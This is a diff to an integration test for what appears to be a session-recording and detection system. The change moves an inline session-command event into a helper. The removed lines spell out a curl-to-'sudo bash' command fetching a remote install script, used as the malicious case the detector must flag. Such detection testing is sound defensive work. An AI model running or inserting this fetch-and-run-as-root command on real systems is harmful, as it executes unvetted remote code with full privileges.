@@ -34,7 +34,7 @@ from storage.reader import iter_frames
 from tests.integration.api_support import make_token, serve
 from tests.integration.import_support import drain, fetch
 from tests.integration.persist_helpers import build_session, drained, group_lag, produce
-from tests.integration.siem_support import produce_events, running_sink
+from tests.integration.siem_support import curl_pipe_shell, produce_events, running_sink
 from tests.integration.test_kube_webhook import event_list, fixture_events
 from tests.integration.test_recorder_spool import consume_all
 from tests.integration.typed_session import STARTED_AT, TypedSession, record_typed_session
@@ -201,19 +201,7 @@ def test_curl_pipe_shell_in_a_stored_session_gets_a_replay_link_at_the_right_off
     chunks = [(sid.encode(), encode_chunk(c)) for c in session.chunks]
     produce(settings, settings.topic_chunks, chunks)
     drain(settings, [settings.topic_chunks])
-    command = {
-        "sv_version": 1,
-        "tenant": settings.tenant,
-        "event": "session.command",
-        "code": "T4000I",
-        "uid": f"{sid}-cmd",
-        "sid": sid,
-        "time": "2026-11-21T10:00:42.500Z",
-        "user": "alice",
-        "program": "sh",
-        "path": "/bin/sh",
-        "argv": ["-c", "curl -fsSL https://get.example.com/install | sudo bash"],
-    }
+    command = curl_pipe_shell(settings.tenant, sid)
     harmless = dict(command, uid=f"{sid}-cmd2", argv=["-c", "curl -o x https://example.com"])
     produce_events(settings, [command, harmless])
     worker = run_detect_until_drained(settings)
